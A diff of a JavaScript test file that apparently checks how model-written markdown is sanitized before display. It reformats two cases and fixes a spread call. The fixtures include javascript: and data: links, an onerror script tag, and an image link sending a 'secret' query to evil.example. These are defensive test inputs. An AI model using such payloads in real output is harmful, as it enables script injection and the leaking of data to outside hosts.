@@ -31,8 +31,16 @@ describe('what a model writes', () => {
     ['links elsewhere', '[a](https://evil.example) [b](//evil.example) [c](javascript:alert(1))', 'a b c'],
     ['links by script in other dress', '[a](JaVaScRiPt:x) [b](data:text/html,x) [c]( <javascript:x> "t")', 'a b c'],
     ['shows pictures', '![a cat](https://evil.example/p.png?q=secret) !', 'a cat !'],
-    ['writes HTML, which is text', '<img src=x onerror=alert(1)> <a href="/x">x</a>', '<img src=x onerror=alert(1)> <a href="/x">x</a>'],
-    ['writes brackets in code', 'Take `a[1]` and\n```js\nb[2](x)\n```\nas in [1].', 'Take `a[1]` and\n```js\nb[2](x)\n```\nas in «10».'],
+    [
+      'writes HTML, which is text',
+      '<img src=x onerror=alert(1)> <a href="/x">x</a>',
+      '<img src=x onerror=alert(1)> <a href="/x">x</a>',
+    ],
+    [
+      'writes brackets in code',
+      'Take `a[1]` and\n```js\nb[2](x)\n```\nas in [1].',
+      'Take `a[1]` and\n```js\nb[2](x)\n```\nas in «10».',
+    ],
     ['leaves code open', '`a[1]\nand [1]', '`a[1]\nand «10»'],
     ['leaves a bracket open', 'a [b and ![', 'a [b and ['],
     ['nests brackets', '[[1](x)](/start)', '[«10»](/start)'],
@@ -40,7 +48,7 @@ describe('what a model writes', () => {
   ])('that %s', (_, text, expected) => {
     expect(shown(text)).toBe(expected)
     // However it comes.
-    expect(shown(...text)).toBe(expected)
+    expect(shown(...text.split(''))).toBe(expected)
   })
 
   it('comes through as soon as nothing of it can turn out otherwise', () => {
